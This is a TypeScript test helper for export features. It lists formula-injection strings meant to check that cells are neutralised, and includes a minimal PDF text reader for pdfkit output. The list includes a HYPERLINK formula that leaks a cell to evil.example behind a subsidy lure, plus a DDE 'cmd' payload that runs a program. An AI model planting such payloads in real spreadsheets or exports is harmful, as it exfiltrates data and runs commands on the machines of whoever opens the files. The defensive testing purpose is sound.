/**
 * For tests of exports (this module's and the routes' that use it): hostile cell values, and what a person
 * sees in a PDF, read with no outside tool. Understands the PDFs pdfkit writes (the only ones this project makes): page tree,
 * deflated content streams, Type0 fonts with a ToUnicode map, text shown with TJ / Tj.
 */
import { inflateSync } from 'node:zlib';

/** Strings an attacker might put in a name, a note or a dish: each would run as a formula if not neutralised. */
export const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击领取补贴")',
  '+86 138 0000 0000',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  " =cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
];

export interface PdfReading {
  /** The text of each page, in drawing order; runs on one baseline joined into a line (table cells run together). */
  pages: string[];
  /** /BaseFont of every font in the file, e.g. 'BZZZZZ+NotoSansSC-Regular' (a subset has a tag prefix). */
  fonts: string[];
  /** How many embedded TrueType font programs (/FontFile2) the file carries. */
  embeddedFonts: number;
  /** The document information dictionary's text entries (Title, Author, Subject, …). */
  info: Record<string, string>;
}

export function readPdf(pdf: Buffer): PdfReading {
  const text = pdf.toString('latin1');
  const objects = new Map<number, { dict: string; stream: Buffer | null }>();
  const re = /(\d+) 0 obj\s*([\s\S]*?)endobj/g;
  for (let m = re.exec(text); m; m = re.exec(text)) {
    const body = m[2]!;
    const s = body.indexOf('stream');
    if (s < 0) {
      objects.set(Number(m[1]), { dict: body, stream: null });
      continue;
    }
    const start = m.index + m[0].indexOf(body) + s + 'stream'.length + (body[s + 6] === '\r' ? 2 : 1);
    const length = Number(/\/Length (\d+)/.exec(body.slice(0, s))?.[1] ?? -1);
    const raw = pdf.subarray(start, start + length);
    const stream = /\/Filter \/FlateDecode/.test(body.slice(0, s)) ? inflateSync(raw) : raw;
    objects.set(Number(m[1]), { dict: body.slice(0, s), stream });
  }
  const obj = (ref: string | undefined) => (ref ? objects.get(Number(ref)) : undefined);

  const unicodeMaps = new Map<number, Map<number, string>>();
  const toUnicode = (fontRef: number): Map<number, string> => {
    const cached = unicodeMaps.get(fontRef);
    if (cached) return cached;
    const map = new Map<number, string>();
    const cmap = obj(/\/ToUnicode (\d+) 0 R/.exec(objects.get(fontRef)?.dict ?? '')?.[1])?.stream?.toString('latin1') ?? '';
    for (const [, lo, , list] of cmap.matchAll(/<([0-9a-f]+)>\s*<([0-9a-f]+)>\s*\[([^\]]*)\]/gi)) {
      [...list!.matchAll(/<([0-9a-f]+)>/gi)].forEach((u, i) => map.set(parseInt(lo!, 16) + i, utf16(u[1]!)));
    }
    for (const [, block] of cmap.matchAll(/beginbfchar([\s\S]*?)endbfchar/g)) {
      for (const [, code, u] of block!.matchAll(/<([0-9a-f]+)>\s*<([0-9a-f]+)>/gi)) map.set(parseInt(code!, 16), utf16(u!));
    }
    unicodeMaps.set(fontRef, map);
    return map;
  };

  const root = [...objects.values()].find((o) => /\/Type \/Pages\b/.test(o.dict) && !/\/Parent/.test(o.dict));
  const kids = [...(/\/Kids \[([^\]]*)\]/.exec(root?.dict ?? '')?.[1] ?? '').matchAll(/(\d+) 0 R/g)].map((k) => Number(k[1]));
  const pages = kids.map((ref) => {
    const page = objects.get(ref)!.dict;
    const resources = obj(/\/Resources (\d+) 0 R/.exec(page)?.[1])?.dict ?? '';
    const fonts = new Map([...(/\/Font <<([\s\S]*?)>>/.exec(resources)?.[1] ?? '').matchAll(/\/(\w+) (\d+) 0 R/g)].map((f) => [f[1]!, Number(f[2])]));
    const content = obj(/\/Contents (\d+) 0 R/.exec(page)?.[1])?.stream?.toString('latin1') ?? '';
    // pdfmake writes a text object per run (for Chinese, often per character): runs on one baseline make a line.
    const lines: string[] = [];
    let baseline: string | null = null;
    for (const [, bt] of content.matchAll(/\bBT\b([\s\S]*?)\bET\b/g)) {
      let font = 0;
      let run = '';
      const y = /[-\d.]+ [-\d.]+ [-\d.]+ [-\d.]+ [-\d.]+ ([-\d.]+) Tm/.exec(bt!)?.[1] ?? null;
      for (const op of bt!.matchAll(/\/(\w+) [\d.]+ Tf|(\[[^\]]*\])\s*TJ|(<[0-9a-f]*>)\s*Tj/gi)) {
        if (op[1]) font = fonts.get(op[1]) ?? 0;
        else {
          const map = toUnicode(font);
          for (const [, hex] of (op[2] ?? op[3])!.matchAll(/<([0-9a-f]*)>/gi)) {
            for (let i = 0; i + 4 <= hex!.length; i += 4) run += map.get(parseInt(hex!.slice(i, i + 4), 16)) ?? '\ufffd';
          }
        }
      }
      if (y !== null && y === baseline && lines.length > 0) lines[lines.length - 1] += run;
      else lines.push(run);
      baseline = y;
    }
    return lines.join('\n');
  });

  const fonts = [...objects.values()].flatMap((o) => [...o.dict.matchAll(/\/BaseFont \/([^\s/>]+)/g)].map((f) => f[1]!));
  const embeddedFonts = [...objects.values()].filter((o) => /\/FontFile2 \d+ 0 R/.test(o.dict)).length;
  const infoDict = obj(/\/Info (\d+) 0 R/.exec(text.slice(text.lastIndexOf('trailer')))?.[1])?.dict ?? '';
  const info: Record<string, string> = {};
  for (const [, key, value] of infoDict.matchAll(/\/(\w+) (<[0-9a-f]*>|\((?:\\.|[^\\)])*\)|\d+ 0 R)/gi)) {
    const v = value!.endsWith(' R') ? (obj(value!.split(' ')[0])?.dict.trim() ?? '') : value!;
    info[key!] = pdfString(v);
  }
  return { pages, fonts: [...new Set(fonts)], embeddedFonts, info };
}

function utf16(hex: string): string {
  const units: number[] = [];
  for (let i = 0; i + 4 <= hex.length; i += 4) units.push(parseInt(hex.slice(i, i + 4), 16));
  return String.fromCharCode(...units);
}

/** A PDF text string, hex <…> or literal (…) with its escapes; UTF-16BE when it starts with a byte-order mark. */
function pdfString(v: string): string {
  let bytes: string;
  if (v.startsWith('<')) bytes = Buffer.from(v.slice(1, v.indexOf('>')), 'hex').toString('latin1');
  else {
    bytes = '';
    const esc: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', '(': '(', ')': ')', '\\': '\\' };
    for (let i = v.indexOf('(') + 1, depth = 1; i < v.length; i++) {
      const c = v[i]!;
      if (c === '\\') {
        const oct = /^[0-7]{1,3}/.exec(v.slice(i + 1))?.[0];
        if (oct) {
          bytes += String.fromCharCode(parseInt(oct, 8));
          i += oct.length;
        } else bytes += esc[v[++i]!] ?? '';
      } else if (c === '(' || c === ')') {
        depth += c === '(' ? 1 : -1;
        if (depth === 0) break;
        bytes += c;
      } else bytes += c;
    }
  }
  if (!bytes.startsWith('\u00fe\u00ff')) return bytes;
  let out = '';
  for (let i = 2; i + 1 < bytes.length; i += 2) out += String.fromCharCode((bytes.charCodeAt(i) << 8) | bytes.charCodeAt(i + 1));
  return out;
}
